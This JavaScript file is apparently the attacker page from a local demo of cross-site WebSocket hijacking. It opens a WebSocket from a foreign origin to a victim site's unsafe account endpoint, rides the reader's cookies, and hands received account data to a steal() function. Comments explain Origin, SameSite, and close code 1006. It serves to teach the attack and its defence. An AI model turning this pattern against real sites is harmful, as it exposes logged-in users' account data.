// The attacker page (demo-server/attacker/page.js), reduced to what matters.
// It runs on another origin, http://localhost:PORT+1 or http://127.0.0.1:PORT+1,
// never on this site. `victim` is the site the reader is logged in to.
const socket = new WebSocket(`${victim}/ws/account/unsafe`);

// The browser adds the Origin header (this page's own origin: a page cannot
// change it) and whatever cookies the victim's site would get for this
// request (SameSite decides which). The page can read neither.
socket.addEventListener('message', (event) => {
  const message = JSON.parse(event.data);
  if (message.type === 'account') {
    steal(message.account); // a real attacker would send it home
  }
});

socket.addEventListener('close', (event) => {
  // A handshake refused with HTTP 403 reaches the page as code 1006 only:
  // no status, no body. Only the server knows why.
  report(event.code);
});
